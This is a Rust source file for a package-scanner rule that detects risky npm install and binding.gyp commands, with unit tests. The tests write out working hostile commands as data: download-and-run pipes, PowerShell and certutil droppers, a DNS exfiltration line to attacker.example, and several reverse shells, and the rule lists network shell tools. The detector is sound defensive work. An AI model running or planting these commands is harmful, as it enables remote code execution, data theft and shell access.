//! DSCA102: an install-time script downloads, decodes, detaches or opens a shell.
//!
//! Commands are split the way a shell would split them (outside quotes, on `&&`, `||`,
//! `;`, `|`, `&` and newlines), quotes and backslash escapes are removed from words, and
//! only command words are compared, so `curly` or a `--host` flag never match while
//! `c\url` does. Command and process substitutions (`$(…)`, backticks, `<(…)`, `>(…)`)
//! and the command strings of `sh -c`, `bash -lc`, `cmd /c` are analysed as commands of
//! their own. The inline code of `node -e` and `python -c` counts only when it does
//! something risky (see `inline_code`). The `<!(…)` commands of binding.gyp, which
//! node-gyp runs on install, are analysed like install scripts.

use super::{cap_evidence, install_time_scripts};
use crate::gyp;
use crate::inline_code::{self, Language};
use crate::shell::{self, Separator, SubstitutionKind, Word};
use crate::{Analysis, ScanContext};
use dsca_model::{Category, Evidence, Finding, Location, Rule, Severity, Signal};

pub const RULE: Rule = Rule {
    id: "DSCA102",
    name: "risky-install-command",
    category: Category::InstallScripts,
    signal: Signal::Behaviour,
    severity: Severity::High,
    title: "Install script runs a risky command",
    problem: "An install-time script fetches code from the network, decodes hidden data, \
        evaluates inline code, hides itself in the background or connects a shell to a \
        remote host. Legitimate packages rarely need any of this at install time; it is the \
        typical shape of a dropper or a reverse shell.",
    next_steps: "Do not install this version with scripts enabled. Find out what the command \
        fetches or runs (the URL, the decoded data, the started file). If it was installed \
        anywhere, treat that machine as compromised: rotate the credentials it could reach \
        (npm, git, cloud, SSH) and check for persistence.",
    severities: &[Severity::Medium, Severity::High, Severity::Critical],
    catches: "curl, wget, nc, PowerShell, certutil, `base64 -d`, eval, pipes and process \
        substitutions into a shell, DNS tools fed by command substitution, detached \
        starts, `node -e` whose inline code spawns, connects, decodes or evaluates; also \
        the `<!(...)` commands of `binding.gyp`; reverse shells are critical, a bare \
        `/dev/tcp` connection (how wait-for-it probes a port) medium. Quotes, escapes \
        and `sh -c` strings are unwrapped first",
};

/// One risky shape found in a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub severity: Severity,
    pub reason: String,
}

pub(crate) fn check(ctx: &ScanContext, out: &mut Analysis) {
    if let Some(manifest) = ctx.manifest() {
        for (script, command) in install_time_scripts(manifest, ctx) {
            let hits = risky_shapes(command);
            let Some(strongest) = hits.first() else {
                continue;
            };
            let mut message = format!("`{script}` {}", strongest.reason);
            if hits.len() > 1 {
                message.push_str(&format!(" (and {} more)", hits.len() - 1));
            }
            let finding = Finding::new(&RULE, message).with_severity(strongest.severity);
            let finding = hits.iter().fold(finding, |finding, hit| {
                finding.with_evidence(
                    Evidence::new(format!("`{script}` {}", hit.reason))
                        .at(Location::file("package.json"))
                        .with_snippet(command),
                )
            });
            out.findings.push(finding);
        }
    }
    check_gyp_commands(ctx, out);
}

/// gyp files node-gyp loads besides binding.gyp: the `.gyp`/`.gypi` files binding.gyp
/// names (includes, dependencies), at most this many.
const MAX_GYP_FILES: usize = 16;

/// The `<!(…)` commands of binding.gyp and the gyp files it names run whenever node-gyp
/// builds the addon, which npm does on install (implicitly for a package with a
/// binding.gyp and no install script).
fn check_gyp_commands(ctx: &ScanContext, out: &mut Analysis) {
    let Some(root) = ctx.files().iter().find(|f| f.path == "binding.gyp") else {
        return;
    };
    let referenced = gyp::referenced_files(&root.data);
    let named = ctx
        .files()
        .iter()
        .filter(|f| f.path != root.path && referenced.contains(&f.path));
    // npm runs `node-gyp rebuild` itself when the package has no install or preinstall
    // script; otherwise its own script decides (usually node-gyp, node-gyp-build,
    // prebuild-install with node-gyp as the fallback).
    let implicit = ctx
        .manifest()
        .is_none_or(|m| m.script("install").is_none() && m.script("preinstall").is_none());
    let when = if implicit {
        "npm runs `node-gyp rebuild` on install, which runs it"
    } else {
        "node-gyp runs it whenever it builds the addon"
    };
    for file in std::iter::once(root).chain(named.take(MAX_GYP_FILES)) {
        let mut hits: Vec<(Hit, gyp::GypCommand)> = Vec::new();
        for command in gyp::commands(&file.data) {
            for hit in risky_shapes(&command.command) {
                hits.push((hit, command.clone()));
            }
        }
        // Stable: equal severities keep the order of the file.
        hits.sort_by_key(|(hit, _)| std::cmp::Reverse(hit.severity));
        let Some((strongest, _)) = hits.first() else {
            continue;
        };
        let what = format!("a command in `{}`", file.path);
        let mut message = format!("{what} {}", strongest.reason);
        if hits.len() > 1 {
            message.push_str(&format!(" (and {} more)", hits.len() - 1));
        }
        let finding = Finding::new(&RULE, message).with_severity(strongest.severity);
        let evidence = cap_evidence(
            hits.iter()
                .map(|(hit, command)| {
                    Evidence::new(format!("{what} {} ({when})", hit.reason))
                        .at(Location::line(file.path.as_str(), command.line))
                        .with_snippet(command.expansion.as_str())
                })
                .collect(),
        );
        out.findings
            .push(evidence.into_iter().fold(finding, Finding::with_evidence));
    }
}

/// Every risky shape in a shell command, strongest first, without duplicates.
pub fn risky_shapes(command: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    scan(command, 0, &mut hits);
    let lower = command.to_ascii_lowercase();
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        hits.push(if wires_shell_to_dev_tcp(&lower) {
            Hit {
                severity: Severity::Critical,
                reason: "connects a shell to a remote host through /dev/tcp (reverse shell)".into(),
            }
        } else {
            // `(exec 3<>/dev/tcp/$host/$port)` is how wait-for-it scripts probe a port.
            Hit {
                severity: Severity::Medium,
                reason: "opens a connection through /dev/tcp".into(),
            }
        });
    }
    let mut seen = std::collections::HashSet::new();
    hits.retain(|hit| seen.insert(hit.reason.clone()));
    // Stable: equal severities keep the order they appear in the command.
    hits.sort_by_key(|hit| std::cmp::Reverse(hit.severity));
    hits
}

/// A /dev/tcp connection that a shell reads its commands from or writes its output to:
/// an interactive shell (`-i`), standard input taken from it (`0>&1`, `0<&196`,
/// `sh <&5`), or output sent to it (`>& /dev/tcp/...`).
fn wires_shell_to_dev_tcp(lower: &str) -> bool {
    let words: Vec<&str> = lower.split_whitespace().collect();
    words.contains(&"-i")
        || lower.contains("0>&1")
        || lower.contains("0<&")
        || lower.contains(">& /dev/")
        || lower.contains(">&/dev/")
        || lower.match_indices("<&").any(|(at, _)| {
            lower[at + 2..]
                .trim_start()
                .starts_with(|c: char| c.is_ascii_digit())
        })
}

/// Nested `sh -c`, `$(...)` deeper than this is not followed (hostile input).
const MAX_DEPTH: usize = 4;

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash"];
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "python",
    "python2",
    "python3",
    "node",
    "nodejs",
    "perl",
    "ruby",
    "php",
    "powershell",
    "pwsh",
    "iex",
    "cmd",
    // Shell builtins that run a file (`source /dev/stdin`, `. <(curl …)`).
    "source",
    ".",
];
/// Words that run the command that follows them.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "exec", "command", "time", "nice", "xargs", "timeout", "stdbuf",
    "busybox",
];
/// Options of wrappers that take a value (`sudo -u root`, `nice -n 10`, `xargs -I {}`).
const WRAPPER_VALUE_OPTIONS: &[&str] = &["-u", "-g", "-n", "-C", "-I", "-P", "-d", "-L", "-s"];
/// Programs this rule judges, recognised whether written as a POSIX or a Windows path.
const OTHER_PROGRAMS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "certutil",
    "base64",
    "eval",
    "nslookup",
    "dig",
    "host",
    "start",
    "nohup",
    "setsid",
    "rundll32",
    "regsvr32",
    "mshta",
    "bitsadmin",
];

fn scan(command: &str, depth: usize, hits: &mut Vec<Hit>) {
    if depth > MAX_DEPTH {
        return;
    }
    let parsed = shell::parse(command);
    for substitution in &parsed.substitutions {
        scan(substitution.body, depth + 1, hits);
    }
    let segments = &parsed.segments;
    for (index, segment) in segments.iter().enumerate() {
        let Some((program, args)) = command_word(&segment.words) else {
            continue;
        };
        examine(&program, args, segment.text, depth, hits);
        process_substitutions(&program, args, hits);
        if let Some(first) = segment.words.first().map(program_name)
            && matches!(first.as_str(), "nohup" | "setsid")
        {
            hits.push(high(format!("starts a detached process with `{first}`")));
        }
        match segment.then {
            Separator::Background => hits.push(high(format!(
                "starts `{program}` in the background (`&`), so npm does not wait for it"
            ))),
            Separator::Pipe => {
                let next = segments
                    .get(index + 1)
                    .and_then(|s| command_word(&s.words).map(|(p, _)| p));
                if let Some(next) = next.filter(|n| INTERPRETERS.contains(&n.as_str())) {
                    hits.push(high(format!(
                        "pipes the output of `{program}` into `{next}`"
                    )));
                }
            }
            Separator::Sequence | Separator::End => {}
        }
    }
}

fn high(reason: String) -> Hit {
    Hit {
        severity: Severity::High,
        reason,
    }
}

fn critical(reason: String) -> Hit {
    Hit {
        severity: Severity::Critical,
        reason,
    }
}

/// Judge one simple command: its program and arguments (`raw` is the segment's text).
fn examine(program: &str, args: &[Word], raw: &str, depth: usize, hits: &mut Vec<Hit>) {
    let has = |flags: &[&str]| args.iter().any(|a| flags.contains(&a.text.as_str()));
    let joined_lower = args
        .iter()
        .map(|a| a.text.as_str())
        .collect::<Vec<_>>()
        .join(" ")
        .to_ascii_lowercase();
    match program {
        "curl" | "wget" => hits.push(high(format!("downloads from the network with `{program}`"))),
        "nc" | "ncat" | "netcat" => {
            let executes = args.iter().any(|a| {
                matches!(a.text.as_str(), "--exec" | "--sh-exec")
                    || short_options(&a.text).is_some_and(|o| o.contains(['e', 'c']))
            });
            if executes {
                hits.push(critical(format!(
                    "hands a shell to a network connection with `{program} -e` (reverse shell)"
                )));
            } else {
                hits.push(high(format!("opens a raw network connection with `{program}`")));
            }
        }
        "socat" => {
            if joined_lower.contains("exec:") || joined_lower.contains("system:") {
                hits.push(critical("connects a shell to a socket with `socat` (reverse shell)".into()));
            } else {
                hits.push(high("opens a raw network connection with `socat`".into()));
            }
        }
        "powershell" | "pwsh" => hits.push(high(powershell_reason(program, &joined_lower))),
        "certutil" => hits.push(high(
            "runs `certutil`, a Windows tool abused to download and decode payloads".into(),
        )),
        // Windows programs that load and run code given to them: how droppers start a
        // DLL or script they shipped or fetched (eslint-config-prettier, Jul 2025).
        "rundll32" | "regsvr32" | "mshta" => hits.push(high(format!(
            "runs `{program}`, which loads and runs the code it is given (a DLL, a scriptlet \
             or an HTA)"
        ))),
        "bitsadmin" => hits.push(high(
            "runs `bitsadmin`, a Windows tool abused to download payloads".into(),
        )),
        "base64" if has(&["-d", "-D", "--decode"]) => {
            hits.push(high("decodes hidden data with `base64 -d`".into()))
        }
        "node" | "nodejs" => node(program, args, hits),
        "python" | "python2" | "python3" => python(program, args, hits),
        "perl" | "ruby" if has(&["-e"]) => {
            hits.push(high(format!("runs inline code given on the command line (`{program} -e`)")))
        }
        "eval" => hits.push(high("evaluates a constructed command with `eval`".into())),
        "nslookup" | "dig" | "host" if raw.contains("$(") || raw.contains('`') => hits.push(high(
            format!("sends command output out through a DNS lookup (`{program}` of a command substitution)"),
        )),
        "start" if has(&["/b", "/B", "/min", "/MIN"]) => hits.push(high(
            "starts a detached process with `start /B`".into(),
        )),
        shell if SHELLS.contains(&shell) => examine_shell(shell, args, raw, depth, hits),
        "cmd" => {
            if let Some(position) = args.iter().position(|a| a.text.eq_ignore_ascii_case("/c")) {
                let rest: Vec<&str> = args[position + 1..].iter().map(|a| a.raw.as_str()).collect();
                scan(&rest.join(" "), depth + 1, hits);
            }
        }
        _ => {}
    }
}

/// The letters of a single-dash option group (`-lc` -> `lc`), `None` for anything else.
fn short_options(arg: &str) -> Option<&str> {
    let letters = arg.strip_prefix('-')?;
    (!letters.is_empty() && letters.bytes().all(|b| b.is_ascii_alphabetic())).then_some(letters)
}

/// `sh -c`, `bash -lc`, `sh -ec`: analyse the command string; `bash -i` redirected to a
/// stream is a reverse shell.
fn examine_shell(shell: &str, args: &[Word], raw: &str, depth: usize, hits: &mut Vec<Hit>) {
    let mut command_string = false;
    let mut interactive = false;
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        let text = arg.text.as_str();
        if text == "--" {
            index += 1;
            break;
        }
        if matches!(text, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
            index += 2;
            continue;
        }
        if text.starts_with("--") {
            index += 1;
            continue;
        }
        if let Some(letters) = short_options(text) {
            command_string |= letters.contains('c');
            interactive |= letters.contains('i');
            index += 1;
            continue;
        }
        if text
            .strip_prefix('+')
            .is_some_and(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphabetic()))
        {
            index += 1;
            continue;
        }
        break;
    }
    let redirected = raw.contains(">&") || raw.contains("<&") || raw.contains("0>");
    if interactive && redirected {
        hits.push(critical(format!(
            "redirects an interactive shell (`{shell} -i`) to a network stream (reverse shell)"
        )));
    }
    let Some(inner) = args.get(index).filter(|_| command_string) else {
        return;
    };
    scan(&inner.text, depth + 1, hits);
    // `sh -c "$(curl …)"`: the downloaded text is the command.
    let trimmed = inner.text.trim();
    if trimmed.starts_with("$(") || trimmed.starts_with('`') {
        let source = shell::parse(trimmed)
            .substitutions
            .first()
            .and_then(|s| first_program(s.body));
        if let Some(source) = source {
            hits.push(high(format!(
                "runs the output of `{source}` as a `{shell}` command"
            )));
        }
    }
}

/// `bash <(curl …)`, `source <(wget -qO- …)`, `curl … > >(sh)`: process substitution
/// used as a pipe into an interpreter.
fn process_substitutions(program: &str, args: &[Word], hits: &mut Vec<Hit>) {
    for arg in args {
        match &arg.process {
            Some((SubstitutionKind::ProcessInput, body)) if INTERPRETERS.contains(&program) => {
                if let Some(source) = first_program(body) {
                    hits.push(high(format!(
                        "feeds the output of `{source}` into `{program}` through process substitution (`<(…)`)"
                    )));
                }
            }
            Some((SubstitutionKind::ProcessOutput, body)) => {
                if let Some(sink) =
                    first_program(body).filter(|p| INTERPRETERS.contains(&p.as_str()))
                {
                    hits.push(high(format!(
                        "pipes the output of `{program}` into `{sink}` through process substitution (`>(…)`)"
                    )));
                }
            }
            _ => {}
        }
    }
}

/// The program the first simple command of `command` runs.
fn first_program(command: &str) -> Option<String> {
    let parsed = shell::parse(command);
    let segment = parsed.segments.first()?;
    command_word(&segment.words).map(|(program, _)| program)
}

/// `node -e CODE`, `node -p CODE`, `node --eval=CODE`: flag the inline code only when
/// it does something risky; `node --import data:…` runs code written on the line. Every
/// argument is looked at: which words are option values and which one is the script is
/// not worth guessing (`node --title x -e …`), and a script's own `-e` argument still
/// has to look risky to count.
/// The JavaScript a command hands to `node -e`/`-p` (also inside `$(…)`), as node
/// receives it.
pub(crate) fn inline_node_code(command: &str) -> Vec<String> {
    let mut found = Vec::new();
    collect_node_code(command, 0, &mut found);
    found
}

fn collect_node_code(command: &str, depth: usize, found: &mut Vec<String>) {
    if depth > 4 || found.len() >= 16 {
        return;
    }
    let parsed = shell::parse(command);
    for substitution in &parsed.substitutions {
        collect_node_code(substitution.body, depth + 1, found);
    }
    for segment in &parsed.segments {
        let Some((program, args)) = command_word(&segment.words) else {
            continue;
        };
        if !matches!(program.as_str(), "node" | "nodejs") {
            continue;
        }
        found.extend(node_eval_code(args));
    }
}

/// The code the arguments of a `node` command line (after the program) hand it to run
/// (`-e CODE`, `--eval=CODE`, `-p CODE`).
pub(crate) fn node_eval_code<T: AsRef<str>>(args: &[T]) -> Vec<String> {
    node_options(args)
        .filter(|(flag, _)| is_eval_flag(flag))
        .filter_map(|(_, value)| value.map(str::to_string))
        .collect()
}

/// Each argument of a `node` command line as (option, its value): `--eval=CODE` split at
/// `=`, otherwise the next argument.
fn node_options<T: AsRef<str>>(args: &[T]) -> impl Iterator<Item = (&str, Option<&str>)> {
    args.iter().enumerate().map(|(index, arg)| {
        let text = arg.as_ref();
        match text.split_once('=') {
            Some((flag, value)) if flag.starts_with("--") => (flag, Some(value)),
            _ => (text, args.get(index + 1).map(AsRef::as_ref)),
        }
    })
}

/// The options that hand node code to run.
fn is_eval_flag(flag: &str) -> bool {
    matches!(flag, "-e" | "--eval" | "-p" | "--print" | "-pe" | "-ep")
}

fn node(program: &str, args: &[Word], hits: &mut Vec<Hit>) {
    for (flag, value) in node_options(args) {
        match flag {
            flag if is_eval_flag(flag) => {
                if let Some(code) = value {
                    judge_inline_code(
                        program,
                        flag,
                        code,
                        Language::JavaScript,
                        "JavaScript",
                        hits,
                    );
                }
            }
            "--import" | "--loader" | "--experimental-loader"
                if value.is_some_and(|v| v.starts_with("data:")) =>
            {
                hits.push(data_url(program, flag));
            }
            _ => {}
        }
    }
}

fn data_url(program: &str, flag: &str) -> Hit {
    high(format!(
        "runs JavaScript written into a `data:` URL (`{program} {flag} data:…`)"
    ))
}

/// `python -c CODE` (also `-Bc CODE`, `-cCODE`).
fn python(program: &str, args: &[Word], hits: &mut Vec<Hit>) {
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        let text = arg.text.as_str();
        if let Some(attached) = text.strip_prefix("-c").filter(|rest| !rest.is_empty()) {
            judge_inline_code(program, "-c", attached, Language::Python, "code", hits);
            return;
        }
        match short_options(text) {
            Some(letters) if letters.ends_with('c') => {
                if let Some(code) = args.get(index + 1) {
                    judge_inline_code(program, "-c", &code.text, Language::Python, "code", hits);
                }
                return;
            }
            // `-m module`: what follows are the module's arguments.
            Some(letters) if letters.ends_with('m') => return,
            Some("W" | "X" | "Q") => index += 2,
            Some(_) => index += 1,
            None if text.starts_with('-') => index += 1,
            None => return,
        }
    }
}

fn judge_inline_code(
    program: &str,
    flag: &str,
    code: &str,
    language: Language,
    what: &str,
    hits: &mut Vec<Hit>,
) {
    let shown = format!("`{program} {flag}`");
    if code.trim_start().starts_with('$') {
        hits.push(high(format!(
            "runs inline {what} taken from a shell expansion ({shown})"
        )));
        return;
    }
    let capabilities = inline_code::risky_capabilities(code, language);
    if capabilities.is_empty() {
        return;
    }
    hits.push(high(format!(
        "runs inline {what} given on the command line ({shown}) that {}",
        join_phrases(&capabilities)
    )));
}

/// "a", "a and b", "a, b and c", "a, b, c and 2 more".
fn join_phrases(phrases: &[String]) -> String {
    const SHOWN: usize = 3;
    let shown = &phrases[..phrases.len().min(SHOWN)];
    let mut text = String::new();
    for (index, phrase) in shown.iter().enumerate() {
        if index > 0 {
            let last = index + 1 == shown.len() && phrases.len() <= SHOWN;
            text.push_str(if last { " and " } else { ", " });
        }
        text.push_str(phrase);
    }
    if phrases.len() > SHOWN {
        text.push_str(&format!(" and {} more", phrases.len() - SHOWN));
    }
    text
}

fn powershell_reason(program: &str, args: &str) -> String {
    let words: Vec<&str> = args
        .split(|c: char| c.is_whitespace() || "|;()'\"".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    let has = |names: &[&str]| words.iter().any(|w| names.contains(w));
    let what = if has(&["-enc", "-en", "-e", "-encodedcommand", "-ec"]) {
        "an encoded command"
    } else if has(&["iex", "invoke-expression"]) {
        "code it downloads or builds at run time (`iex`)"
    } else if has(&[
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "wget",
        "curl",
    ]) || args.contains("downloadstring")
        || args.contains("downloadfile")
    {
        "a download"
    } else {
        "a command"
    };
    format!("runs {what} with `{program}`")
}

/// The program a simple command runs and its arguments, skipping `VAR=value`
/// assignments, redirections, wrappers such as `sudo` (and their options), and
/// detaching prefixes such as `nohup`.
fn command_word(words: &[Word]) -> Option<(String, &[Word])> {
    let mut index = 0;
    let mut after_wrapper = false;
    while let Some(word) = words.get(index) {
        let text = word.text.as_str();
        if is_redirect_operator(text) {
            index += 2;
            continue;
        }
        if is_redirect(text) || is_assignment(text) || matches!(text, "{" | "}" | "!") {
            index += 1;
            continue;
        }
        let name = program_name(word);
        if WRAPPERS.contains(&name.as_str()) || matches!(name.as_str(), "nohup" | "setsid") {
            after_wrapper = true;
            index += 1;
            continue;
        }
        if after_wrapper {
            if WRAPPER_VALUE_OPTIONS.contains(&text) {
                index += 2;
                continue;
            }
            let duration = !text.is_empty()
                && text
                    .trim_end_matches(['s', 'm', 'h', 'd'])
                    .bytes()
                    .all(|b| b.is_ascii_digit() || b == b'.');
            if text.starts_with('-') || duration {
                index += 1;
                continue;
            }
        }
        return Some((name, &words[index + 1..]));
    }
    None
}

/// `NAME=value` before a command.
fn is_assignment(text: &str) -> bool {
    let Some((name, _)) = text.split_once('=') else {
        return false;
    };
    let mut bytes = name.bytes();
    bytes
        .next()
        .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
        && bytes.all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// A redirection operator written as its own word (`>`, `2>>`, `&>`, `<`): its target
/// is the next word.
fn is_redirect_operator(text: &str) -> bool {
    let operator = text.trim_start_matches(|c: char| c.is_ascii_digit());
    matches!(
        operator,
        ">" | ">>" | "<" | "<<" | "<<<" | ">&" | "<&" | "&>" | "&>>" | ">|" | "<>"
    )
}

/// A redirection with its target in the same word (`2>&1`, `>/dev/null`, `<in`).
fn is_redirect(text: &str) -> bool {
    let operator = text.trim_start_matches(|c: char| c.is_ascii_digit());
    operator.starts_with(['>', '<']) || operator.starts_with("&>")
}

/// The program a word names: a lowercase basename without a Windows executable
/// extension (`/usr/bin/curl` -> `curl`, `C:\tools\curl.exe` -> `curl`). Backslashes are
/// path separators when that gives a program this rule knows, and shell escapes
/// otherwise (`c\url` -> `curl`).
fn program_name(word: &Word) -> String {
    let windows = basename(&word.raw, &['/', '\\']);
    if is_known_program(&windows) {
        return windows;
    }
    basename(&word.text, &['/'])
}

fn basename(word: &str, separators: &[char]) -> String {
    let base = word
        .rsplit(separators)
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    for extension in [".exe", ".cmd", ".bat"] {
        if let Some(stem) = base.strip_suffix(extension) {
            return stem.to_string();
        }
    }
    base
}

fn is_known_program(name: &str) -> bool {
    [SHELLS, INTERPRETERS, WRAPPERS, OTHER_PROGRAMS]
        .iter()
        .any(|list| list.contains(&name))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strongest(command: &str) -> Option<Severity> {
        risky_shapes(command).first().map(|hit| hit.severity)
    }

    #[test]
    fn benign_commands_are_quiet() {
        for command in [
            "node-gyp rebuild",
            "node install.js",
            "prebuild-install || node-gyp rebuild",
            "husky install",
            "curly --version",
            "node scripts/postinstall.js --host example.com",
            "echo done > /dev/null 2>&1",
            "opencollective-postinstall || true",
            // core-js, core-js-pure, nx; es5-ext.
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
            "node -p \"require('node-addon-api').include\"",
            "node -e \"require('nan')\"",
            "node --no-warnings -e \"console.log('Thanks for installing! Run x to spawn it.')\"",
            "node -e \"process.env.CI || require('./scripts/setup')\"",
            "python3 -c \"import sys; print(sys.platform)\"",
            "bash -lc 'node-gyp rebuild'",
            "sh -ec 'echo ok' && diff <(cat a) <(cat b)",
            "sudo -u root node install.js",
        ] {
            assert_eq!(risky_shapes(command), vec![], "{command}");
        }
    }

    #[test]
    fn shell_tricks_do_not_hide_droppers() {
        for command in [
            "bash -lc 'curl x | sh'",
            "sh -ec \"wget -qO- http://x/a | sh\"",
            "bash -c -- 'curl x'",
            "bash <(curl -s https://x.example/a.sh)",
            "source <(wget -qO- https://x.example/a.sh)",
            ". <(curl -s x)",
            "curl -s x > >(sh)",
            "sh -c \"$(curl -fsSL https://x.example/a.sh)\"",
            "c\\url -s x -o /tmp/a",
            "c\"u\"rl -s x",
            "'wget' x",
            "C:\\Windows\\System32\\curl.exe -o a.exe http://x",
            "(curl x | sh)",
            "sudo -u root curl x",
            "timeout 10 wget x",
            "node -e \"require('https').get('https://x', r => r.pipe(process.stdout))\"",
            "node -e \"eval(Buffer.from(process.argv[1], 'base64').toString())\" aWQ=",
            "node --eval=\"require('child_process').execSync('id')\"",
            "node -e \"$PAYLOAD\"",
            "node --title x -e \"require('net').connect(4444, 'x')\"",
            "node --import 'data:text/javascript,console.log(1)'",
            "python -c \"import os;os.system('id')\"",
            "python3 -Bc 'import urllib.request'",
        ] {
            assert_eq!(strongest(command), Some(Severity::High), "{command}");
        }
    }

    #[test]
    fn process_substitution_into_a_shell_names_both_sides() {
        let reasons: Vec<String> = risky_shapes("bash <(curl -s x)")
            .into_iter()
            .map(|hit| hit.reason)
            .collect();
        assert_eq!(
            reasons,
            [
                "downloads from the network with `curl`",
                "feeds the output of `curl` into `bash` through process substitution (`<(…)`)",
            ]
        );
    }

    #[test]
    fn downloads_pipes_and_detaching_are_high() {
        for command in [
            "curl static.example|python",
            "wget -qO- http://x/y.sh | sh",
            "/usr/bin/curl -s http://x -o /tmp/a",
            "node -e \"require('child_process').exec('id')\"",
            "echo aGk= | base64 --decode",
            "nslookup $(whoami).attacker.example",
            "dig `hostname`.x.example",
            "node update.js &",
            "nohup node update.js",
            "start /B node preinstall.js & node preinstall.js",
            "powershell -enc SQBFAFgA",
            "powershell -Command \"irm https://x.example/npm/ | iex\"",
            "certutil -urlcache -f http://x/a.exe a.exe",
            "rundll32 node-gyp.dll,main",
            "cmd /c start /b regsvr32 /s /i:http://x.example/a.sct scrobj.dll",
            "bitsadmin /transfer j http://x.example/a.exe %TEMP%\\a.exe",
            "sh -c 'curl http://x | bash'",
            "FOO=1 sudo wget http://x",
        ] {
            assert_eq!(strongest(command), Some(Severity::High), "{command}");
        }
    }

    #[test]
    fn reverse_shells_are_critical() {
        for command in [
            "bash -i >& /dev/tcp/4.tcp.example/11425 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "sh -i 2>&1 | nc x 1",
            "socat exec:'bash -li',pty tcp:x:1",
            "0<&196;exec 196<>/dev/tcp/198.51.100.3/4444; sh <&196 >&196 2>&196",
            "sh >& /dev/tcp/198.51.100.3/4444 0>&1",
        ] {
            assert_eq!(strongest(command), Some(Severity::Critical), "{command}");
        }
    }

    #[test]
    fn a_port_probe_through_dev_tcp_is_no_reverse_shell() {
        // wait-for-it style readiness checks.
        for command in [
            "(exec 3<>\"/dev/tcp/$host/$port\") >/dev/null 2>&1",
            "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'",
        ] {
            assert_eq!(strongest(command), Some(Severity::Medium), "{command}");
        }
    }

    #[test]
    fn hostile_input_does_not_panic() {
        for command in [
            "$(",
            "`",
            "$((((",
            "'unterminated",
            "a \\",
            "&",
            "|",
            "&&&|||;;",
            "é&ü|",
            "bash -c",
            "node -e",
            "python -c",
            "bash <(",
            "x > >(",
            "sudo",
            "node --import",
        ] {
            let _ = risky_shapes(command);
        }
    }
}
